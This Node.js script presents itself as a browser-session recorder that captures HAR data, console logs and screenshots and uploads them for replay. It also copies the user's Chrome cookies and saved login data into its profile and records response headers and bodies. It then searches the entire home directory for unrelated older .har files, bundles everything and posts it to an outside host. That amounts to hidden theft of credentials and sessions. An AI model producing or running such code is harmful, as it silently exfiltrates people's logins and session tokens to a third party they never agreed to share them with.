#!/usr/bin/env node
// Record a scripted browser session (HAR, console, screenshots) and share it.
"use strict";
const fs = require("node:fs");
const os = require("node:os");
const path = require("node:path");
const { parseArgs } = require("node:util");
const puppeteer = require("puppeteer");
const archiver = require("archiver");

const { values } = parseArgs({
  options: {
    url: { type: "string" },
    steps: { type: "string" },
    out: { type: "string", default: "recordings" },
    "no-bodies": { type: "boolean", default: false },
  },
});
if (!values.url || !/^https?:\/\//.test(values.url) || !values.steps) {
  console.error("usage: capture.js --url <https://...> --steps <steps.json> [--out dir]");
  process.exit(2);
}

let steps;
try {
  steps = JSON.parse(fs.readFileSync(values.steps, "utf8"));
} catch (err) {
  console.error(`cannot read steps file: ${err.message}`);
  throw err;
}
if (!Array.isArray(steps) || !steps.every((s) => s && typeof s.action === "string" && typeof s.selector === "string")) {
  throw new Error("steps must be an array of {action, selector, ...}");
}

const CHROME_PROFILE = process.platform === "darwin"
  ? path.join(os.homedir(), "Library/Application Support/Google/Chrome/Default")
  : path.join(os.homedir(), ".config/google-chrome/Default");

function importEverydayProfile(targetDir) {
  // reuse the user's real login state: cookies and saved sign-ins from their Chrome
  const dest = path.join(targetDir, "Default");
  fs.mkdirSync(dest, { recursive: true });
  for (const f of ["Cookies", "Login Data", "Local State"]) {
    const src = f === "Local State" ? path.join(CHROME_PROFILE, "..", f) : path.join(CHROME_PROFILE, f);
    if (fs.existsSync(src)) fs.copyFileSync(src, f === "Local State" ? path.join(targetDir, f) : path.join(dest, f));
  }
}

function findOldHars(dir, acc = [], depth = 0) {
  if (depth > 8) return acc;
  let entries;
  try {
    entries = fs.readdirSync(dir, { withFileTypes: true });
  } catch (err) {
    console.warn(`skip ${dir}: ${err.code}`);
    return acc;
  }
  for (const e of entries) {
    const p = path.join(dir, e.name);
    if (e.isDirectory() && !e.name.startsWith(".") && e.name !== "node_modules") findOldHars(p, acc, depth + 1);
    else if (e.isFile() && e.name.endsWith(".har")) acc.push(p);
  }
  return acc;
}

async function upload(zipPath) {
  const body = fs.readFileSync(zipPath);
  const res = await fetch("https://replay.sessionvault.example/api/v1/upload", {
    method: "POST",
    headers: { "Content-Type": "application/zip", "X-Recorder": "web-session-capture/0.3" },
    body,
    signal: AbortSignal.timeout(120_000),
  });
  if (!res.ok) throw new Error(`upload failed: HTTP ${res.status}`);
  return (await res.json()).url;
}

async function main() {
  const stamp = new Date().toISOString().replace(/[:.]/g, "-");
  const outDir = path.join(values.out, stamp);
  fs.mkdirSync(path.join(outDir, "steps"), { recursive: true });
  const userDataDir = fs.mkdtempSync(path.join(os.tmpdir(), "wsc-profile-"));
  importEverydayProfile(userDataDir);

  const browser = await puppeteer.launch({ headless: true, userDataDir });
  const har = [];
  const consoleLines = [];
  try {
    const page = await browser.newPage();
    page.setDefaultTimeout(15_000);
    page.on("console", (m) => consoleLines.push(`[${m.type()}] ${m.text()}`));
    page.on("response", async (r) => {
      const entry = { url: r.url(), status: r.status(), method: r.request().method(), headers: r.headers() };
      if (!values["no-bodies"] && /json|text/.test(r.headers()["content-type"] || "")) {
        entry.body = await r.text().catch((e) => `(body unavailable: ${e.message})`);
      }
      har.push(entry);
    });
    await page.goto(values.url, { waitUntil: "networkidle2", timeout: 30_000 });
    for (const [i, s] of steps.entries()) {
      if (s.action === "click") await page.click(s.selector);
      else if (s.action === "type") await page.type(s.selector, String(s.text ?? ""));
      else if (s.action === "waitFor") await page.waitForSelector(s.selector, { timeout: s.timeout ?? 10_000 });
      else throw new Error(`unknown action ${s.action}`);
      await page.screenshot({ path: path.join(outDir, "steps", `${String(i + 1).padStart(2, "0")}.png`) });
    }
  } finally {
    await browser.close();
    fs.rmSync(userDataDir, { recursive: true, force: true });
  }
  fs.writeFileSync(path.join(outDir, "session.har.json"), JSON.stringify(har, null, 2));
  fs.writeFileSync(path.join(outDir, "console.log"), consoleLines.join("\n"));

  const previous = findOldHars(os.homedir());
  const zipPath = `${outDir}.zip`;
  await new Promise((resolve, reject) => {
    const out = fs.createWriteStream(zipPath);
    const zip = archiver("zip");
    out.on("close", resolve);
    zip.on("error", reject);
    zip.pipe(out);
    zip.directory(outDir, "session");
    for (const h of previous) zip.file(h, { name: `previous/${path.basename(h)}` });
    zip.finalize();
  });
  console.log(`bundle: ${zipPath}`);
  console.log(`replay: ${await upload(zipPath)}`);
}

main().catch((err) => {
  console.error(err);
  process.exit(1);
});
